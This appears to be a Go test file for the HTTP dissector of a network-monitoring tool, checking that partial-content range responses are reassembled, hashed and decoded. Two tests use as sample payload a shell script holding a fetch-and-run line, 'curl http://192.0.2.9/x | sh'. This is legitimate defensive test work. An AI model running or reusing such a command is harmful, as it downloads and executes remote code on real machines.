package http

import (
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/yagura-project/yagura/dissect"
	"github.com/yagura-project/yagura/dissect/flowtest"
	"github.com/yagura-project/yagura/event"
	"github.com/yagura-project/yagura/event/wire"
)

// ranges asks for parts of a script out of order, one of them twice in part.
func ranges() (says []flowtest.Say) {
	const script = "#!/bin/sh\ncurl http://192.0.2.9/x | sh\n"
	for _, r := range [][2]int{{20, 30}, {0, 12}, {10, 20}, {30, len(script)}} {
		says = append(says, part("/a.sh", "", script, r[0], r[1])...)
	}
	return says
}

// part asks for the bytes from one offset to another of content that is sent so; fields are further ones of the answer.
func part(path, fields, content string, from, to int) []flowtest.Say {
	return []flowtest.Say{flowtest.Up(fmt.Sprintf("GET %s HTTP/1.1\r\nHost: dl.example\r\nRange: bytes=%d-%d\r\n\r\n", path, from, to-1)),
		flowtest.Down(fmt.Sprintf("HTTP/1.1 206 Partial Content\r\n%sContent-Range: bytes %d-%d/%d\r\nContent-Length: %d\r\n\r\n%s",
			fields, from, to-1, len(content), to-from, content[from:to]))}
}

func TestRangesAreJoined(t *testing.T) { flowtest.Talk(t, "ranges", 80, false, ranges(), Protocol) }

// TestLargeRanges brings a program that is larger than what is kept of a file, its parts nearly in order.
func TestLargeRanges(t *testing.T) {
	const step = 1 << 20
	content := strings.Repeat("MZ 0123456789abcdef", 9*step/19)
	var says []flowtest.Say
	for _, from := range []int{0, 2 * step, step, 3 * step, 5 * step, 4 * step, 6 * step, 7 * step, 8 * step} {
		says = append(says, part("/setup.exe", "", content, from, min(from+step, len(content)))...)
	}
	var got []*event.File
	for _, e := range flowtest.Detailed(80, false, says, Protocol) {
		if a, ok := e.(*event.HTTPActivity); ok && a.WholeFile != nil {
			got = append(got, a.WholeFile)
		}
	}
	want := fmt.Sprintf("%x", sha256.Sum256([]byte(content)))
	if len(got) != 1 || got[0].SHA256 != want || got[0].Size != uint64(len(content)) || got[0].Type != "exe" || got[0].Name != "setup.exe" {
		t.Errorf("%+v, want %s", got, want)
	}
}

// TestCodedRanges brings parts of what is coded: only the whole can be decoded.
func TestCodedRanges(t *testing.T) {
	const script = "#!/bin/sh\ncurl http://192.0.2.9/x | sh\n"
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = io.WriteString(z, script) // to a buffer
	_ = z.Close()
	coded := b.String()
	for from, want := range map[int]bool{30: true, 31: false} { // a byte that lacks
		says := append(part("/a.sh", "Content-Encoding: gzip\r\n", coded, from, len(coded)), part("/a.sh", "Content-Encoding: gzip\r\n", coded, 0, 30)...)
		seen := false
		for _, x := range flowtest.Shown(80, false, says, Protocol) {
			for _, f := range x.Fields {
				seen = seen || f.Buffer == wire.FileData && string(f.B) == script && f.File.SHA256 != nil && !f.File.Truncated
			}
		}
		if seen != want {
			t.Errorf("from byte %d on: seen %v", from, seen)
		}
	}
}

// TestRangeBeginsLost loses the first bytes of a part: those behind them stay where they belong.
func TestRangeBeginsLost(t *testing.T) {
	const content = "MZ 0123456789"
	var whole *event.File
	p := newParser(&dissect.Flow{Emit: func(e event.Event) {
		if a, ok := e.(*event.HTTPActivity); ok && a.WholeFile != nil {
			whole = a.WholeFile
		}
	}})
	say := func(says ...flowtest.Say) {
		for _, s := range says {
			if _, err := p.Data(s.Dir, []byte(s.B)); err != nil {
				t.Fatal(err)
			}
		}
	}
	say(flowtest.Up("GET / HTTP/1.1\r\n\r\n"), flowtest.Down("HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx"))
	asked := part("/a.exe", "", content, 5, 10)
	say(asked[0], flowtest.Down(strings.TrimSuffix(asked[1].B, content[5:10])))
	if err := p.Gap(dissect.Resp, 2); err != nil {
		t.Fatal(err)
	}
	say(flowtest.Down(content[7:10]))
	say(part("/a.exe", "", content, 0, 5)...)
	say(part("/a.exe", "", content, 10, len(content))...)
	if whole != nil {
		t.Errorf("%+v, though two bytes were lost", whole)
	}
	say(part("/a.exe", "", content, 4, 8)...)
	if whole == nil || whole.SHA256 != fmt.Sprintf("%x", sha256.Sum256([]byte(content))) {
		t.Errorf("%+v", whole)
	}
}
